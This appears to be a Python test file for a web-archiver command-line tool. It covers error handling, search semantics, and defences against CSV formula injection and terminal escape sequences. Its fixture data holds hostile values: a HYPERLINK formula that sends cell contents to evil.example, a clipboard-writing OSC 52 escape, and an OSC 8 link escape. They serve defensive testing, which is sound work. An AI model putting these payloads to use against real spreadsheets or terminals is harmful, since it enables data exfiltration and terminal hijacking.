"""Issue 13: bad input and hostile content meet one error boundary, never a traceback or a raw escape.

Dates, ids, thresholds, settings and profiles are refused in one line with exit 2; an
output that cannot be written is one line with exit 3; archived text cannot drive the
terminal or a spreadsheet; a NOT or a LIKE wildcard means what the user typed.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from archiver.cli import cli
from archiver.crawler.overrides import unknown_setting_warning
from archiver.items import ArticleItem, PageCapture
from archiver.store import Archive

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"x")\x1b]52;c;ZXZpbA==\x07\x1b[2J\x9b31m'
ARTICLES = [
    {
        "url": "http://p.test/a/1.html",
        "site": "p.test",
        "title": HOSTILE_TITLE,
        "author": "@attacker",
        "source": "+cmd",
        "source_raw": "Source: 100%_real news",
        "body": "security training \x1b]8;;http://evil\x07link\x1b]8;;\x07 text.",
        "keywords": [],
        "published_at": "2024-11-01T09:00:00+08:00",
    },
    {
        "url": "http://p.test/a/2.html",
        "site": "p.test",
        "title": "Fire drill",
        "author": "-x",
        "source": "Other",
        "source_raw": "Source: Other news",
        "body": "security fire drill text.",
        "keywords": [],
        "published_at": "2024-11-05T09:00:00+08:00",
    },
]


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("boundary") / "a.db"
    archive = Archive(path)
    run = archive.start_run("t", "generic", {})
    items = [
        ArticleItem(
            capture=PageCapture(
                url=record["url"],
                final_url=record["url"],
                status=200,
                headers={},
                body=b"<p>x</p>",
                fetched_at="2026-11-23T00:00:00+00:00",
            ),
            record=record,
        )
        for record in ARTICLES
    ]
    archive.write_batch(items, run)
    archive.finish_run(run, "finished", {})
    archive.close()
    return path


def invoke(*args: str) -> Result:
    return CliRunner().invoke(cli, list(args), catch_exceptions=False, prog_name="archiver")


def one_line_error(result: Result, exit_code: int) -> str:
    assert result.exit_code == exit_code, result.output
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("Error: "), result.stderr
    return lines[0]


# --- 14: dates ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        ["search", "security", "--since", "{}"],
        ["search", "security", "--until", "{}"],
        ["export", "--since", "{}"],
        ["export", "--until", "{}"],
        ["show", "http://p.test/a/1.html", "--at", "{}"],
        ["reextract", "--since", "{}"],
        ["report", "--since", "{}"],
    ],
)
@pytest.mark.parametrize("value", ["notadate", "2024-13-45", "2024-02-30", "20241101"])
def test_invalid_dates_are_usage_errors(db: Path, command: list[str], value: str) -> None:
    args = [part.format(value) for part in command]
    line = one_line_error(invoke(*args, "--db", str(db)), 2)
    assert repr(value) in line and "ISO 8601" in line


def test_valid_dates_still_filter(db: Path) -> None:
    result = invoke("export", "--db", str(db), "--since", "2024-11-03")
    assert [json.loads(line)["url"] for line in result.stdout.splitlines()] == ["http://p.test/a/2.html"]
    result = invoke("search", "security", "--db", str(db), "--until", "2024-11-03 00:00", "--format", "json")
    assert [hit["url"] for hit in json.loads(result.stdout)["results"]] == ["http://p.test/a/1.html"]


# --- 17: the error boundary ------------------------------------------------------------------------

HUGE = "99999999999999999999"


@pytest.mark.parametrize(
    "args",
    [
        ["runs", "--limit", HUGE],
        ["report", "--run", HUGE],
        ["republished", "--run", HUGE],
        ["show", "http://p.test/a/1.html", "--version", HUGE],
        ["diff", "http://p.test/a/1.html", "--to", HUGE],
        ["cluster", "--threshold", "nan"],
        ["cluster", "--threshold", "inf"],
    ],
)
def test_out_of_range_numbers_are_usage_errors(db: Path, args: list[str]) -> None:
    line = one_line_error(invoke(*args, "--db", str(db)), 2)
    assert f"`archiver {args[0]} -h`" in line


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
@pytest.mark.parametrize("output_format", ["jsonl", "csv", "warc"])
def test_export_to_a_full_disk_is_one_line_exit_3(db: Path, output_format: str) -> None:
    result = invoke("export", "--db", str(db), "--format", output_format, "-o", "/dev/full")
    assert one_line_error(result, 3) == "Error: cannot write /dev/full: No space left on device"


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
def test_stdout_on_a_full_disk_is_one_line_exit_3(db: Path) -> None:
    """A subprocess: the failing write is the interpreter's flush of stdout, at the process boundary."""
    import subprocess
    import sys

    with open("/dev/full", "w") as full:
        result = subprocess.run(
            [sys.executable, "-m", "archiver", "export", "--db", str(db)],
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            timeout=120,
        )
    assert result.returncode == 3
    assert result.stderr.strip().splitlines() == ["Error: input/output failed: No space left on device"]


# --- 15: NOT -------------------------------------------------------------------------------------


def search_urls(db: Path, query: str) -> list[str]:
    result = invoke("search", query, "--db", str(db), "--format", "json")
    assert result.exit_code == 0, result.output
    return [hit["url"] for hit in json.loads(result.stdout)["results"]]


@pytest.mark.parametrize("query", ["NOT fire", "security OR NOT fire", "security NOT NOT fire"])
def test_a_not_without_a_left_side_is_refused_with_a_hint(db: Path, query: str) -> None:
    assert "security NOT fire" in one_line_error(invoke("search", query, "--db", str(db)), 2)


@pytest.mark.parametrize("query", ["security NOT fire", "security AND NOT fire"])
def test_not_excludes(db: Path, query: str) -> None:
    assert search_urls(db, query) == ["http://p.test/a/1.html"]


# --- 23: LIKE wildcards ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        # Only the first source line holds a % and a _; as wildcards they would match both articles.
        ("%", ["http://p.test/a/1.html"]),
        ("_", ["http://p.test/a/1.html"]),
        ("\\", []),
        ("S%news", []),
        ("Oth_r", []),
        ("100%_real", ["http://p.test/a/1.html"]),
        ("other", ["http://p.test/a/2.html"]),
    ],
)
def test_source_filter_is_a_substring_not_a_pattern(db: Path, source: str, expected: list[str]) -> None:
    result = invoke("search", "security", "--db", str(db), "--source", source, "--format", "json")
    assert [hit["url"] for hit in json.loads(result.stdout)["results"]] == expected


# --- 20: CSV formula injection ------------------------------------------------------------------


def csv_rows(db: Path, *extra: str) -> list[dict[str, str]]:
    result = invoke("export", "--db", str(db), "--format", "csv", *extra)
    return list(csv.DictReader(io.StringIO(result.stdout)))


def test_csv_cells_that_would_be_formulas_are_neutralized(db: Path) -> None:
    first, second = csv_rows(db)
    assert first["title"].startswith("'=HYPERLINK(")
    assert (first["author"], first["source"], second["author"]) == ("'@attacker", "'+cmd", "'-x")
    assert second["title"] == "Fire drill"  # nothing else changes
    starts = ("=", "+", "-", "@", "\t", "\r")
    assert not [cell for row in (first, second) for cell in row.values() if cell.startswith(starts)]


def test_csv_raw_keeps_cells_as_archived(db: Path) -> None:
    first, _ = csv_rows(db, "--raw")
    assert first["title"] == HOSTILE_TITLE and first["author"] == "@attacker"


# --- 21: terminal escapes ---------------------------------------------------------------------------

CONTROLS = [chr(c) for c in [*range(0x00, 0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0)]]


@pytest.mark.parametrize(
    "args",
    [
        ["show", "http://p.test/a/1.html"],
        ["history", "http://p.test/a/1.html"],
        ["search", "security"],
        ["show", "http://p.test/a/1.html", "--format", "json"],
        ["search", "security", "--format", "json"],
        ["report", "--format", "md"],
        ["report", "--format", "json"],
    ],
)
def test_printed_output_has_no_control_characters(db: Path, args: list[str]) -> None:
    result = invoke(*args, "--db", str(db))
    assert result.exit_code == 0, result.output
    assert not [c for c in result.stdout if c in CONTROLS]


def test_escaped_text_still_says_what_was_there(db: Path) -> None:
    shown = invoke("show", "http://p.test/a/1.html", "--db", str(db)).stdout
    assert "\\x1b]52;c;ZXZpbA==\\x07" in shown and "\\x9b31m" in shown
    printed = json.loads(invoke("show", "http://p.test/a/1.html", "--db", str(db), "--format", "json").stdout)
    assert printed["title"] == HOSTILE_TITLE  # JSON escapes are lossless


# --- 16: -s values -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("setting", "message"),
    [
        ("CONCURRENT_REQUESTS=abc", "expected an integer"),
        ("CONCURRENT_REQUESTS=0", "at least 1"),
        ("DOWNLOAD_DELAY=-1", "at least 0"),
        ("DOWNLOAD_TIMEOUT=nan", "at least 0"),
        ("ROBOTSTXT_OBEY=maybe", "True or False"),
        ("ARCHIVER_DUPLICATE_THRESHOLD=7", "between 0.05 and 1"),
        ("ARCHIVER_BATCH_SIZE=0", "at least 1"),
        ("ARCHIVER_REVISIT_POLICY=often", "AGE=INTERVAL"),
        ("ITEM_PIPELINES=notjson", "JSON object"),
    ],
)
def test_bad_setting_values_stop_before_the_crawl(tmp_path: Path, setting: str, message: str) -> None:
    result = invoke("crawl", "http://127.0.0.1:9/", "--db", str(tmp_path / "a.db"), "-s", setting)
    line = one_line_error(result, 2)
    assert setting.split("=")[0] in line and message in line
    assert not (tmp_path / "a.db").exists()


def test_good_setting_values_pass(tmp_path: Path) -> None:
    from archiver.crawler.run import parse_overrides

    given = [
        "DOWNLOAD_DELAY=0.5",
        "DOWNLOAD_TIMEOUT=2.5",
        "CONCURRENT_REQUESTS=4",
        "ROBOTSTXT_OBEY=False",
        "TELNETCONSOLE_ENABLED=0",
        "DEPTH_PRIORITY=-1",
        "ARCHIVER_DUPLICATE_THRESHOLD=0.8",
        "SOME_EXTENSION_X=1",
        'ITEM_PIPELINES={"a.B": 1}',
        "ARCHIVER_REVISIT_POLICY=2d=0,*=7d",
    ]
    assert len(parse_overrides(given)) == len(given)


def test_unknown_setting_names_are_warned_with_the_closest_one(tmp_path: Path) -> None:
    assert "did you mean DOWNLOAD_DELAY?" in (unknown_setting_warning("DOWNLAOD_DELAY") or "")
    assert "did you mean ARCHIVER_BATCH_SIZE?" in (unknown_setting_warning("ARCHIVER_BACTH_SIZE") or "")
    assert unknown_setting_warning("DOWNLOAD_DELAY") is None
    assert unknown_setting_warning("ARCHIVER_REDIS_URL") is None
    # The warning comes before anything else is checked (here: a usage error that ends the command).
    result = invoke(
        "crawl",
        "http://127.0.0.1:9/",
        "--db",
        str(tmp_path / "a.db"),
        "--redis",
        "redis://x",
        "--max-pages",
        "3",
        "-s",
        "DOWNLAOD_DELAY=1",
    )
    assert result.exit_code == 2
    assert result.stderr.splitlines()[0] == (
        "Warning: -s DOWNLAOD_DELAY: not a Scrapy or archiver setting (did you mean DOWNLOAD_DELAY?)"
    )


# --- 11: profiles ------------------------------------------------------------------------------------

PAGE = Path(__file__).parent / "golden" / "kmabxh" / "reference-seed" / "page.html"


@pytest.mark.parametrize(
    ("toml", "message"),
    [
        ('name = "x"\nstart_url = ["http://a.test/"]\n', "start_url: unknown key (did you mean start_urls?)"),
        ('name = "x"\n[selectors]\ntitle = ["h1[[["]\n', "selectors.title: bad CSS selector 'h1[[['"),
        ('name = "x"\n[selectors]\ntitle = ["h1::text"]\n', "selectors.title: bad CSS selector 'h1::text'"),
        ('name = "x"\n[selectors]\nheadline = ["h1"]\n', "selectors.headline: unknown key"),
        ('name = "x"\n[boilerplate]\nselectors = [".a >> .b"]\n', "boilerplate.selectors: bad CSS selector"),
        ('name = "x"\n[nav]\nselectors = ["a:nope"]\n', "nav.selectors: bad CSS selector"),
        ('name = "x"\n[urls]\narticle = ["(("]\n', "urls.article: bad regular expression '(('"),
        ('name = "x"\n[urls]\narticle_id = 3\n', "urls.article_id: expected a string"),
        ('name = "x"\nhosts = "a.test"\n', "hosts: expected a list of strings"),
        ('name = "x"\ntimezone = "Mars/Base"\n', "timezone: unknown time zone"),
        ('name = "x"\nstart_urls = ["ftp://a.test/"]\n', "start_urls: not an http(s) URL"),
        ('description = "no name"\n', "name: missing"),
        ('name = "x"\nselectors = ["h1"]\n', "selectors: expected a table"),
    ],
)
@pytest.mark.parametrize("command", ["crawl", "extract"])
def test_bad_profiles_are_refused_naming_file_and_key(tmp_path: Path, toml: str, message: str, command: str) -> None:
    profile = tmp_path / "site.toml"
    profile.write_text(toml, encoding="utf-8")
    args = (
        ["crawl", str(profile), "--db", str(tmp_path / "a.db")]
        if command == "crawl"
        else ["extract", str(PAGE), "--profile", str(profile)]
    )
    line = one_line_error(invoke(*args), 2)
    assert line.startswith(f"Error: {profile}: ") and message in line


@pytest.mark.parametrize("command", ["crawl", "extract"])
def test_a_missing_profile_file_is_named(tmp_path: Path, command: str) -> None:
    missing = tmp_path / "nowhere.toml"
    args = (
        ["crawl", str(missing), "--db", str(tmp_path / "a.db")]
        if command == "crawl"
        else ["extract", str(PAGE), "--profile", str(missing)]
    )
    assert f"{missing}: no such profile file" in one_line_error(invoke(*args), 2)


def test_builtin_profiles_are_valid() -> None:
    from archiver.profiles import builtin_names, load_profile

    assert [load_profile(name).name for name in builtin_names()] == builtin_names()


def test_the_python_api_parses_times_too(db: Path) -> None:
    from archiver.api import open_archive
    from archiver.errors import UsageError

    with open_archive(db) as reader:
        assert [r["url"] for r in reader.latest_articles(since="2024-11-03")] == ["http://p.test/a/2.html"]
        for call in (
            lambda: reader.latest_articles(since="notadate"),
            lambda: reader.search("security", until="x"),
            lambda: reader.article_at("http://p.test/a/1.html", at="2024-13-45"),
        ):
            with pytest.raises(UsageError, match="ISO 8601"):
                call()
